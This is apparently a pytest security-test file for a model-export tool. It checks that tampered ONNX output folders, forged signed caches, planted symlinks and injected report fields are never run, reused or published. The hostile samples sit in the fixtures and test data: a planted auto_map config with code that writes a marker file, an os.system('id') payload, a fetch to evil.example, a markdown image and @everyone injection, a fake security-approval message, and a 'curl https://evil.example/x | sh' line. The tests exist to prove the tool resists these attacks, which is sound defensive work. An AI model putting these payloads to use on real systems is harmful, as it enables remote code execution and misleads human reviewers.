"""Nothing from an artifact folder runs, nothing the tool did not validate is reused or published, no planted link is
followed (#13 §1). The real CLI on a tiny BERT exported once to ONNX (a format whose upstream loader would read the
folder's config with its code), then the output folder tampered with as an attacker would."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.export_store import MODEL, OUT
from tests.export_store import exported as exported_once
from tests.models import tiny_bert

RECIPE = {"exports": [{"name": "onnx", "export_format": "onnx", "mode": "model"}]}
EVIL = '''
from pathlib import Path
Path({marker!r}).write_text("code from the artifact folder ran")
from transformers import BertConfig


class EvilConfig(BertConfig):
    model_type = "evil"
'''


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The export every test tampers with a copy of (the shared store, tests/export_store.py); `state` holds the
    signing key of results this tool validated, outside every output folder."""
    root = tmp_path_factory.mktemp("artifact-safety")
    done = exported_once(tiny_bert(root / "built" / "model", RECIPE), "run", "--no-bench", MODEL, "--out", OUT,
                         "--quiet")
    assert done.returncode == 0, done.stderr[-3000:]
    return {"root": root, "model": done.model_dir, "out": done.out, "state": done.state}


def copy_out(exported: dict[str, Path], name: str) -> Path:
    target = exported["root"] / name
    shutil.copytree(exported["out"], target, symlinks=True)
    return target


def cli(exported: dict[str, Path], *args: str, **env: str):
    return run_cli(*args, env={"EXPORT_ACTION_STATE_DIR": str(exported["state"]), **env})


def test_validate_never_runs_code_from_the_artifact_folder(exported: dict[str, Path]) -> None:
    out = copy_out(exported, "out-auto-map")
    marker = exported["root"] / "CODE_RAN"
    folder = out / "onnx"
    config = json.loads((folder / "config.json").read_text())
    config.update(model_type="evil", auto_map={"AutoConfig": "evil.EvilConfig"})
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "evil.py").write_text(EVIL.format(marker=str(marker)))
    result = cli(exported, "validate", str(exported["model"]), str(out))
    assert not marker.exists(), "validate imported code from the artifact folder"
    assert result.returncode == 0, result.stderr[-3000:]  # the programs are fine; the folder's config is not read
    assert json.loads((out / "report.json").read_text())["targets"][0]["status"] == "passed"


def _forge(out: Path) -> bytes:
    """Replace the exported graph with junk and make report.json agree with it (status passed, same cache key)."""
    report = json.loads((out / "report.json").read_text())
    target = report["targets"][0]
    entry = next(f for f in target["files"] if f["path"].endswith(".onnx"))
    junk = b"not a validated graph" * 10
    (out / entry["path"]).write_bytes(junk)
    entry.update(size=len(junk), sha256=hashlib.sha256(junk).hexdigest())
    (out / "report.json").write_text(json.dumps(report))
    return junk


def test_a_planted_report_is_never_reused_or_published(exported: dict[str, Path], hf_env, monkeypatch) -> None:
    hub = hf_env
    monkeypatch.delenv("HF_HUB_DISABLE_PROGRESS_BARS")  # bars on, as on a user's machine: --quiet turns them off
    out = copy_out(exported, "out-forged")
    junk = _forge(out)
    files = {p.name: p.read_bytes() for p in exported["model"].iterdir() if p.is_file()}
    hub.create_model_repo("alice/forged", files)
    result = cli(exported, "run", "--no-bench", "alice/forged", "--out", str(out), "--push", "--quiet",
                 HF_ENDPOINT=hub.url,
                 HF_HUB_DISABLE_XET="1", HF_HOME=str(out.parent / "hf-home"))
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Fetching" not in result.stderr and "it/s]" not in result.stderr, "--quiet shows no progress bars"
    report = json.loads((out / "report.json").read_text())
    assert not report["targets"][0]["cached"]  # exported and validated again, not taken from the planted report
    published = {path: data for path, data in hub.files("alice/forged", "refs/pr/1").items()
                 if path.endswith(".onnx")}
    assert published and junk not in published.values()
    exported_now = {f["path"]: f["sha256"] for f in report["targets"][0]["files"]}
    for path, data in published.items():
        assert hashlib.sha256(data).hexdigest() == exported_now[path.removeprefix("exports/")]


def test_a_report_written_by_validate_is_never_reused(exported: dict[str, Path]) -> None:
    out = copy_out(exported, "out-validated")
    assert cli(exported, "validate", str(exported["model"]), str(out)).returncode == 0
    assert json.loads((out / "report.json").read_text())["targets"][0]["status"] == "passed"
    rerun = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet")
    assert rerun.returncode == 0, rerun.stderr[-3000:]
    assert not json.loads((out / "report.json").read_text())["targets"][0]["cached"]
    again = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet")
    assert json.loads((out / "report.json").read_text())["targets"][0]["cached"]  # its own, signed result is
    assert again.returncode == 0


def test_a_planted_staging_link_is_not_followed(exported: dict[str, Path]) -> None:
    out = exported["root"] / "out-staging"
    out.mkdir()
    outside = exported["root"] / "outside"
    outside.mkdir()
    (out / ".staging-onnx").symlink_to(outside, target_is_directory=True)
    (out / "logs").symlink_to(outside, target_is_directory=True)
    result = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet")
    assert result.returncode == 0, result.stderr[-3000:]
    assert list(outside.iterdir()) == [], "something was written through a planted link"
    assert (out / "onnx" / "export.json").is_file() and not (out / "onnx").is_symlink()
    assert not (out / "logs").is_symlink() and (out / "logs" / "onnx.log").is_file()


def test_aggregate_refuses_links_in_parts_and_names_that_are_not_target_names(exported: dict[str, Path]) -> None:
    from exporters.errors import AggregateError
    from exporters.report.aggregate import aggregate

    parts = exported["root"] / "parts"
    part = parts / "export-onnx"
    shutil.copytree(exported["out"], part)
    secret = exported["root"] / "secret.txt"
    secret.write_text("outside the part")
    (part / "onnx" / "extra.bin").symlink_to(secret)
    report = aggregate(parts, exported["root"] / "merged")
    target = report["targets"][0]
    assert target["status"] == "failed" and target["error"]["type"] == "ArtifactMismatch"
    assert not (exported["root"] / "merged" / "onnx").exists()  # nothing copied through the link
    (part / "onnx" / "extra.bin").unlink()
    data = json.loads((part / "report.json").read_text())
    data["targets"][0]["name"] = "../escape"
    (part / "report.json").write_text(json.dumps(data))
    with pytest.raises(AggregateError, match="escape"):
        aggregate(parts, exported["root"] / "merged2")


# ── The signed cache (#27 §1-3, §18): reused only when the bytes and the whole record are what this tool signed ──


def _report(out: Path) -> dict:
    return json.loads((out / "report.json").read_text())


def _flip_bytes(path: Path) -> bytes:
    """Change bytes in the middle of `path`, same size; return the tampered content."""
    data = bytearray(path.read_bytes())
    middle = len(data) // 2
    data[middle:middle + 16] = bytes(b ^ 0xFF for b in data[middle:middle + 16])
    path.write_bytes(bytes(data))
    return bytes(data)


def _graph(out: Path) -> Path:
    [graph] = [out / f["path"] for f in _report(out)["targets"][0]["files"] if f["path"].endswith(".onnx")]
    return graph


def _assert_exported_again(out: Path, result, tampered: bytes | None = None) -> dict:
    assert result.returncode == 0, result.stderr[-3000:]
    target = _report(out)["targets"][0]
    assert target["status"] == "passed" and target["cached"] is False, "a tampered target was reused"
    for entry in target["files"]:  # what the report vouches for is what is on disk now
        assert hashlib.sha256((out / entry["path"]).read_bytes()).hexdigest() == entry["sha256"]
    if tampered is not None:
        assert _graph(out).read_bytes() != tampered
    return target


def test_a_tampered_artifact_with_its_mtime_put_back_is_exported_again(exported: dict[str, Path]) -> None:
    out = copy_out(exported, "out-mtime-restored")
    graph = _graph(out)
    before = graph.stat()
    tampered = _flip_bytes(graph)
    os.utime(graph, ns=(before.st_atime_ns, before.st_mtime_ns))  # same size, same mtime: only the bytes differ
    rerun = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet")
    _assert_exported_again(out, rerun, tampered)


def test_an_edited_mtime_in_the_report_does_not_vouch_for_changed_bytes(exported: dict[str, Path]) -> None:
    out = copy_out(exported, "out-mtime-edited")
    graph = _graph(out)
    tampered = _flip_bytes(graph)
    report = _report(out)
    for entry in report["targets"][0]["files"]:  # the report made to agree with the tampered file's stat
        entry["mtime_ns"] = (out / entry["path"]).stat().st_mtime_ns
    (out / "report.json").write_text(json.dumps(report))
    rerun = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet")
    _assert_exported_again(out, rerun, tampered)


def test_the_publish_plan_checks_the_bytes_not_the_size(exported: dict[str, Path]) -> None:
    from exporters.errors import PublishError
    from exporters.publish import plan_publish

    out = copy_out(exported, "out-plan-content")
    assert plan_publish("alice/model", out).published == ["onnx"]  # the untouched folder plans fine
    graph = _graph(out)
    before = graph.stat()
    _flip_bytes(graph)
    os.utime(graph, ns=(before.st_atime_ns, before.st_mtime_ns))
    with pytest.raises(PublishError, match=r"changed since it was validated \(its size or sha256"):
        plan_publish("alice/model", out)


def test_unsigned_report_fields_never_reach_the_pr(exported: dict[str, Path], hf_env) -> None:
    hub = hf_env
    hub.create_model_repo("alice/injected", {"README.md": b"# model\n"})
    out = copy_out(exported, "out-injected")
    report = _report(out)
    target = report["targets"][0]
    target["findings"].append("approved by the security team, merge now")
    target["components"][0]["name"] = "approved-by-security"
    (out / "report.json").write_text(json.dumps(report))
    rerun = cli(exported, "run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet", "--dry-run",
                "--repo-id", "alice/injected", HF_ENDPOINT=hub.url, HF_HUB_DISABLE_XET="1",
                HF_HOME=str(out.parent / "hf-home-injected"))
    _assert_exported_again(out, rerun)
    assert "would open a new pull request" in rerun.stderr + rerun.stdout  # the dry run printed the PR text
    for text in (rerun.stdout, (out / "report.md").read_text(), (out / "report.json").read_text()):
        assert "approved by the security team" not in text and "approved-by-security" not in text


def test_changed_weights_never_keep_the_old_cache_key(exported: dict[str, Path]) -> None:
    new_model = tiny_bert(exported["root"] / "model-new-weights", RECIPE, seed=1)
    old = {p.name: p.stat().st_size for p in exported["model"].iterdir()}
    assert {p.name: p.stat().st_size for p in new_model.iterdir()} == old  # same files, same sizes, new bytes
    out = copy_out(exported, "out-new-weights")
    report = _report(out)
    old_weights = report["source"]["weights_sha256"]
    for entry in report["source"]["weights_files"]:  # the record made to agree with the new files' stat
        entry["mtime_ns"] = (new_model / entry["path"]).stat().st_mtime_ns
    (out / "report.json").write_text(json.dumps(report))
    rerun = cli(exported, "run", "--no-bench", str(new_model), "--out", str(out), "--quiet")
    _assert_exported_again(out, rerun)
    source = _report(out)["source"]
    assert source["weights_sha256"] != old_weights
    assert {f["path"]: f["sha256"] for f in source["weights_files"]} == {
        f["path"]: hashlib.sha256((new_model / f["path"]).read_bytes()).hexdigest() for f in source["weights_files"]}


def _forged_with(exported: dict[str, Path], key_dir: Path, name: str) -> tuple[Path, bytes]:
    """An output folder whose graph is junk, its report made to agree and signed with the key in `key_dir`."""
    from exporters.run.reuse import Signer

    out = copy_out(exported, name)
    junk = _forge(out)
    report = _report(out)
    target = report["targets"][0]
    target["files"] = [{**f, "mtime_ns": (out / f["path"]).stat().st_mtime_ns} for f in target["files"]]
    target["signature"] = Signer(key_dir).sign(target)
    (out / "report.json").write_text(json.dumps(report))
    return out, junk


@pytest.mark.parametrize("planted", ["link", "readable-by-others"])
def test_a_signing_key_others_could_read_or_plant_is_never_used(exported: dict[str, Path], planted: str) -> None:
    attacker = exported["root"] / f"attacker-{planted}"
    attacker.mkdir()
    (attacker / "report-signing.key").write_text("ab" * 32)
    (attacker / "report-signing.key").chmod(0o600)
    out, junk = _forged_with(exported, attacker, f"out-key-{planted}")
    state = exported["root"] / f"state-{planted}"
    state.mkdir()
    key = state / "report-signing.key"
    if planted == "link":
        key.symlink_to(attacker / "report-signing.key")
    else:
        key.write_text("ab" * 32)
        key.chmod(0o644)
    rerun = run_cli("run", "--no-bench", str(exported["model"]), "--out", str(out), "--quiet",
                    env={"EXPORT_ACTION_STATE_DIR": str(state)})
    _assert_exported_again(out, rerun, junk)
    assert not key.is_symlink() and key.stat().st_mode & 0o777 == 0o600 and key.read_text() != "ab" * 32
    assert (attacker / "report-signing.key").read_text() == "ab" * 32  # replaced, not written through the link


# ── Matrix legs (#27 §4): a leg's report is data from another machine ──────────


def _leg(exported: dict[str, Path], parts: Path, label: str, revision: str, repo_id: str, rename: str | None = None,
         **target_fields) -> dict:
    """A downloaded leg's folder `parts/label`: the module's onnx export as a leg of `repo_id` at `revision` would
    have written it, its target renamed and its fields replaced as given."""
    part = parts / label
    shutil.copytree(exported["out"], part)
    report = _report(part)
    report["source"].update(model=repo_id, revision=revision, is_hub=True)
    target = report["targets"][0]
    if rename:
        (part / "onnx").rename(part / rename)
        (part / "logs" / "onnx.log").rename(part / "logs" / f"{rename}.log")
        target["name"] = rename
        target["files"] = [{**f, "path": rename + f["path"].removeprefix("onnx")} for f in target["files"]]
    target.update(target_fields)
    (part / "report.json").write_text(json.dumps(report))
    return report


def test_aggregate_merges_only_planned_legs_whose_checks_back_their_verdict(exported: dict[str, Path], hub) -> None:
    from tests.test_action import run_action, run_inputs

    repo_id = "alice/matrix-legs"
    head = hub.create_model_repo(repo_id, {p.name: p.read_bytes() for p in exported["model"].iterdir()},
                                 author="alice")

    def aggregate(name: str, legs: list[dict]) -> tuple:
        workspace = exported["root"] / f"aggregate-{name}"
        for leg in legs:
            _leg(exported, workspace / "export-parts", revision=leg.pop("revision", head), repo_id=repo_id, **leg)
        run = run_action(workspace, {**run_inputs(repo_id), "mode": "aggregate", "dry-run": "true", "comment": "false",
                                     "targets": '["onnx"]'}, github=None, hub_url=hub.url)
        return run, workspace / "export-out"

    genuine, out = aggregate("genuine", [{"label": "export-onnx"}])  # the control: an honest leg is merged
    assert genuine.returncode == 0, genuine.log[-4000:]
    assert genuine.outputs["status"] == "passed" and "would open a new pull request" in genuine.summary

    evil, out = aggregate("evil", [{"label": "export-onnx"},
                                   {"label": "export-evil", "rename": "evil", "components": []}])
    assert evil.returncode != 0 and evil.outputs["status"] == "error", evil.log[-4000:]
    assert "Cannot merge the report parts" in evil.stdout and "['evil'], which the plan does not list" in evil.stdout
    assert not (out / "evil").exists() and not (out / "report.json").exists()

    moved, out = aggregate("other-commit", [{"label": "export-onnx", "revision": "0" * 40}])
    assert moved.returncode != 0 and f"revision '{'0' * 40}', the plan's is '{head}'" in moved.stdout, moved.log[-4000:]
    assert not (out / "report.json").exists()

    unbacked, out = aggregate("no-checks", [{"label": "export-onnx", "components": []}])
    report = _report(out)
    assert unbacked.outputs["status"] == "failed" and "would open a new pull request" not in unbacked.summary
    assert report["targets"][0]["status"] == "failed"
    assert report["targets"][0]["error"]["type"] == "UnbackedVerdict"


HOSTILE = "@everyone ![x](https://evil.example/a.png)"
CLAIMS = [  # what a leg's report may claim of the runtimes that ran its folder
    {"runtime": "optimum", "status": "passed", "class": "ORTModel\nimport os; os.system('id')  #"},
    {"runtime": "transformers.js", "status": "passed", "task": "x'); fetch('https://evil.example'); ('"},
    {"runtime": HOSTILE, "status": "passed", "detail": HOSTILE},
    {"runtime": "ONNX Runtime GenAI", "status": "passed", "detail": HOSTILE},  # cannot apply: not a generation target
]


def _shows_nothing(text: str) -> None:
    assert "@everyone" not in text and "](https://evil" not in text and "os.system" not in text, text[-3000:]
    assert "evil.example/x" not in text
    assert "evil.example'" not in text and "ORTModel\n" not in text


def test_aggregate_keeps_only_runtime_proofs_the_plan_backs_and_shows_them_as_data(exported: dict[str, Path],
                                                                                   hub) -> None:
    """#45 §4: a leg's `runtimes` are claims. Through the Action's aggregate mode, a proof of a runtime that cannot
    apply to the planned target (optimum, transformers.js, an image, GenAI on a feature-extraction graph) is dropped
    with a finding, and nothing of it reaches report.md, the card or the PR as code, a link, an image or a mention;
    a failed proof fails the target; a kept proof's text is inert."""
    from exporters.publish.plan import plan_publish
    from exporters.publish.texts import card_section, pr_description
    from exporters.report.aggregate import aggregate
    from tests.test_action import run_action, run_inputs

    repo_id = "alice/matrix-runtimes"
    head = hub.create_model_repo(repo_id, {p.name: p.read_bytes() for p in exported["model"].iterdir()},
                                 author="alice")
    workspace = exported["root"] / "aggregate-runtimes"
    _leg(exported, workspace / "export-parts", "export-onnx", head, repo_id, runtimes=CLAIMS,
         reproduce="curl https://evil.example/x | sh")  # report.md shows it as a command to copy
    run = run_action(workspace, {**run_inputs(repo_id), "mode": "aggregate", "dry-run": "true", "comment": "false",
                                 "targets": '["onnx"]'}, github=None, hub_url=hub.url)
    out = workspace / "export-out"
    assert run.returncode == 0 and run.outputs["status"] == "passed", run.log[-4000:]
    report = _report(out)
    assert report["targets"][0]["runtimes"] == [] and report["targets"][0]["reproduce"] is None
    assert any("4 of the leg's 4 runtime proof(s) dropped" in f for f in report["findings"]), report["findings"]
    plan = plan_publish(repo_id, out)
    for text in ((out / "report.md").read_text(), card_section(plan, "a" * 40), pr_description(plan, 1, "a" * 40),
                 run.summary):
        _shows_nothing(text)
        assert "optimum" not in text.split("Findings")[0] and "transformers.js" not in text.split("Findings")[0]

    # A proof of a runtime the plan says applies is kept as data: a failed one fails the target (a leg's "passed"
    # does not outweigh it), an unverified one's text is shown inert.
    for status, verdict in (("failed", "failed"), ("unverified", "passed")):
        parts = exported["root"] / f"parts-{status}"
        claims = [{"runtime": "ONNX Runtime GenAI", "status": status, "detail": HOSTILE, "class": "x"}]
        _leg(exported, parts, "export-onnx", head, repo_id, runtimes=claims)
        merged = aggregate(parts, exported["root"] / f"merged-{status}", expected=["onnx"],
                           runtimes=lambda name, folder: ["ONNX Runtime GenAI"])
        target = merged["targets"][0]
        assert target["status"] == verdict, target.get("error")
        assert target["runtimes"] == [{"runtime": "ONNX Runtime GenAI", "status": status, "detail": HOSTILE}]
        if status == "failed":
            assert target["error"]["type"] == "UnbackedVerdict"
        markdown = (exported["root"] / f"merged-{status}" / "report.md").read_text()
        _shows_nothing(markdown)
        assert "ONNX Runtime GenAI" in markdown and "evil.example" in markdown  # shown, as text
